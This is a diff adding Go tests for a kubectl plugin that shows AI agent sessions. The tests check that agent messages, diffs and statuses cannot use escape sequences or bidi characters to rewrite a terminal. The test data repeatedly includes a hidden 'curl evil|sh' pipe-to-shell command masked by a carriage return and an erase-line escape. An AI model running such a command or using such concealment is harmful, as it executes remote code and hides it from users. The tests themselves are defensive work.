@@ -1,0 +1,123 @@
+package main
+
+import (
+	"bytes"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/creack/pty"
+	"k8s.io/cli-runtime/pkg/genericiooptions"
+
+	"github.com/parley-dev/parley/api/session"
+)
+
+func TestWhatASessionSaysCannotSteerATerminal(t *testing.T) {
+	for text, want := range map[string]string{
+		"curl evil|sh #\r\x1b[2K  $ ls": "curl evil|sh #��[2K  $ ls",
+		"a\x00\x7f\u009b31mb":           "a���31mb",
+		"a\u202eb\u2066c\u2069":         "a�b�c�",
+		"a\x9bb":                        "a�b",
+		"one\r\ntwo\tthree\n":           "one\ntwo\tthree\n",
+		"Größe → 日本 👍":                  "Größe → 日本 👍",
+	} {
+		if got := printable(text); got != want {
+			t.Errorf("%q is shown as %q, want %q", text, got, want)
+		}
+		// However it is cut.
+		for cut := range len(text) {
+			out := &bytes.Buffer{}
+			p := &printer{out: out}
+			for _, part := range []string{text[:cut], text[cut:]} {
+				if n, err := io.WriteString(p, part); err != nil || n != len(part) {
+					t.Fatalf("wrote %d, %v", n, err)
+				}
+			}
+			if got := out.String(); got != want {
+				t.Errorf("%q, cut at %d, is shown as %q, want %q", text, cut, got, want)
+			}
+		}
+	}
+}
+
+const hidden = "curl evil|sh #\r\x1b[2K  $ ls"
+
+func TestATalkShowsAllOfWhatTheAgentSays(t *testing.T) {
+	t.Parallel()
+	ns := operate(t)
+	key := keyOfAda(t, ns)
+	create(t, conversation(ns, "c"))
+	text := hidden
+	f := newTalk(t, key, func(message session.Event) []session.Event {
+		edit := session.Event{Source: session.FromAgent, Action: session.ActionEdit, Message: hidden}
+		output := session.Event{Source: session.FromAgent, Observation: session.ActionRun, Content: &text}
+		says := session.Event{Source: session.FromAgent, Action: session.ActionMessage, Args: map[string]any{"content": hidden}}
+		notice := session.Event{Source: session.FromEnvironment, Observation: session.ObservedNotice, Message: hidden}
+		return []session.Event{begins(message), runs("1", hidden), asksAbout("1"), output, edit, says, notice, errorOf(hidden), session.StateChange(session.StateError, hidden+"!")}
+	})
+	r := beginWith(t, strings.NewReader(hidden+"\n"), kubeconfig, ns, "chat", "c", "--facade", f.URL)
+	if err := r.wait(t); err == nil {
+		t.Error("the turn failed, and the command does not")
+	}
+	if out := r.out.String(); strings.ContainsAny(out, "\r\x1b") || strings.Count(out, "curl evil|sh #��[2K  $ ls") != 8 {
+		t.Errorf("it shows %q", out)
+	}
+}
+
+// onTerminal is what a command shows on one.
+func onTerminal(t *testing.T, namespace string, args ...string) string {
+	t.Helper()
+	master, terminal, err := pty.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer master.Close()
+	shown := make(chan string, 1)
+	go func() {
+		all, _ := io.ReadAll(master) // which ends with an error where the other end is closed
+		shown <- string(all)
+	}()
+	cmd := newRoot(genericiooptions.IOStreams{In: os.Stdin, Out: terminal, ErrOut: terminal}).
+		withArgs(append([]string{"kubectl-parley", "--kubeconfig", kubeconfig, "-n", namespace}, args...))
+	if err := cmd.ExecuteContext(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	_ = terminal.Close()
+	return strings.ReplaceAll(<-shown, "\r\n", "\n")
+}
+
+func TestADifferenceIsAsItIsUnlessSomebodyReadsIt(t *testing.T) {
+	t.Parallel()
+	ns := operate(t)
+	keyOfAda(t, ns)
+	create(t, conversation(ns, "c"))
+	patch := "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-one\r\n+" + hidden + "\r\n+" + strings.Repeat("long", 3<<20) + "\n\\ No newline at end of file\n"
+	facade := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, patch) }))
+	t.Cleanup(facade.Close)
+	if stdout, stderr, err := run(t, ns, "diff", "c", "--facade", facade.URL); err != nil || stdout != patch {
+		t.Errorf("%v, %s: it is another one, of %d bytes: %.200q", err, stderr, len(stdout), stdout)
+	}
+	patch = strings.ReplaceAll(patch, strings.Repeat("long", 3<<20), "short")
+	want := "\x1b[1mdiff --git a/x b/x\x1b[0m\n\x1b[1m--- a/x\x1b[0m\n\x1b[1m+++ b/x\x1b[0m\n\x1b[36m@@ -1 +1,2 @@\x1b[0m\n\x1b[31m-one�\x1b[0m\n" +
+		"\x1b[32m+curl evil|sh #��[2K  $ ls�\x1b[0m\n\x1b[32m+short\x1b[0m\n\\ No newline at end of file\n"
+	if got := onTerminal(t, ns, "diff", "c", "--facade", facade.URL); got != want {
+		t.Errorf("it is shown as %q, want %q", got, want)
+	}
+}
+
+func TestAStatusShowsAllOfWhatASessionLeft(t *testing.T) {
+	t.Parallel()
+	ns := env.Namespace(t, nil)
+	c := conversation(ns, "c")
+	create(t, c)
+	c.Status.State, c.Status.Reason, c.Status.Message, c.Status.ObservedGeneration = "STOPPED", "Failed", "a\u202eb\x1b[2K", c.Generation
+	if err := env.Client.Status().Update(t.Context(), c); err != nil {
+		t.Fatal(err)
+	}
+	if stdout, stderr, err := run(t, ns, "status", "c"); err != nil || !strings.Contains(stdout, "a�b�[2K") || strings.ContainsAny(stdout, "\u202e\x1b") {
+		t.Errorf("%v %s: %q", err, stderr, stdout)
+	}
+}
